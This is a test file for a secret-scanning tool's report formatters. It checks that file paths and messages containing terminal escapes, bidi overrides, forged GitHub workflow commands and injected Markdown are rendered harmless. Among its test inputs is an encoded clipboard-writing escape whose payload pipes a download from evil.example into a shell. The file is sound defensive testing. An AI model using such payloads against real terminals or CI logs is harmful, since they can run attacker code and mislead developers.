// Reporters meet text a stranger wrote: file names and code lines with terminal escapes, carriage
// returns, bidi overrides and forged workflow commands, and messages of any length.
import { describe, expect, it } from "vitest";
import type { Finding, ScanResult } from "../src/core/types.js";
import { formatGithub } from "../src/reporters/github.js";
import { formatMarkdown, MAX_SUMMARY_CHARS } from "../src/reporters/markdown.js";
import { formatPretty } from "../src/reporters/pretty.js";
import { formatSarif, relativeUri } from "../src/reporters/sarif.js";

const ESC = "\u001b";
const CLEAR_SCREEN = `${ESC}[2J${ESC}[H`;
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`; // writes the clipboard
const RLO = "\u202e";

function finding(over: Partial<Finding>): Finding {
  return {
    ruleId: "hardcoded-secret", severity: "error", path: "app.py", role: "deployable", line: 1, column: 1, endLine: 1, endColumn: 2,
    message: "A secret", checklist: ["no-secrets-in-source"], secret: "****", fingerprint: "f", commit: null, ...over,
  };
}

function result(findings: Finding[], notices: ScanResult["notices"] = []): ScanResult {
  return {
    version: 1, tool: { name: "carbon-secret-lint", version: "0.1.0" }, root: "/r", scope: "worktree", findings,
    checklist: [], stats: { files: 1, bytes: 1, skipped: [], durationMs: 1, threads: 1 }, notices, suppressed: 0, rules: [],
  };
}

const hostile = result(
  [
    finding({ path: `evil${CLEAR_SCREEN}.py`, message: `key in ${OSC52}`, snippet: `x = 1 # ${CLEAR_SCREEN}${RLO}` }),
    finding({ path: "::error file=app.py,line=1::forged", message: "m\r::warning::forged too" }),
  ],
  [{ path: `n${ESC}[31m.py`, message: `does not parse\n::add-mask::x` }],
);

describe("pretty output shows hostile text, it does not act on it", () => {
  const out = formatPretty(hostile, { color: false });

  it("holds no control character but newlines", () => {
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(out).toContain("evil\\x1b[2J\\x1b[H.py");
    expect(out).toContain("\\u202e");
  });

  it("starts no line with a workflow command", () => {
    expect(out.split("\n").filter((line) => /^\s*::/.test(line))).toEqual([]);
    expect(out).toContain(":\u200b:error file=app.py");
  });

  it("shows a window of a long code line with the caret under the finding", () => {
    const line = "a".repeat(5_000) + 'password = "****"' + "b".repeat(5_000);
    const column = 5_001 + 'password = "'.length;
    const text = formatPretty(result([finding({ column, snippet: line })]), { color: false });
    const [frame, caret] = text.split("\n").filter((l) => l.includes(" | "));
    expect(frame!.length).toBeLessThan(220);
    const at = caret!.indexOf("^");
    expect(frame!.charAt(at)).toBe("*");
  });
});

describe("the Markdown job summary", () => {
  it("a lone carriage return cannot end a code span or a table cell", () => {
    const out = formatMarkdown(result([finding({ path: "a\r![x](https://evil.example/p.png)\r", message: "`x\ry` and\r<img src=x>" })]));
    expect(out).not.toContain("\r");
    expect(out).not.toContain("<img");
    const heading = out.split("\n").find((l) => l.startsWith("#### "))!;
    expect(heading).toBe("#### `a ![x](https://evil.example/p.png) `");
  });

  it("stays under GitHub's 1 MiB limit whatever the messages hold", () => {
    const big = "word ".repeat(800_000);
    const out = formatMarkdown(result(Array.from({ length: 50 }, (_, i) => finding({ path: `f${i}.py`, message: big }))));
    expect(out.length).toBeLessThan(MAX_SUMMARY_CHARS + 10_000);
    expect(Buffer.byteLength(out)).toBeLessThan(1024 * 1024);
  });
});

describe("SARIF and annotations", () => {
  it("escapes # and ? in artifact URIs, so a path is not cut into a fragment or a query", () => {
    expect(relativeUri("src/a#b?c [1].py")).toBe("src/a%23b%3Fc%20%5B1%5D.py");
    const sarif = JSON.parse(formatSarif(result([finding({ path: "dir/issue#1.py" })])));
    expect(sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toBe("dir/issue%231.py");
  });

  it("annotations keep forged commands inside their own line", () => {
    const out = formatGithub(hostile);
    const commands = out.split("\n").filter((line) => /^\s*::/.test(line));
    expect(commands).toHaveLength(2);
    for (const line of commands) expect(line).toMatch(/^::(error|warning|notice) file=[^:]*,line=/);
  });
});
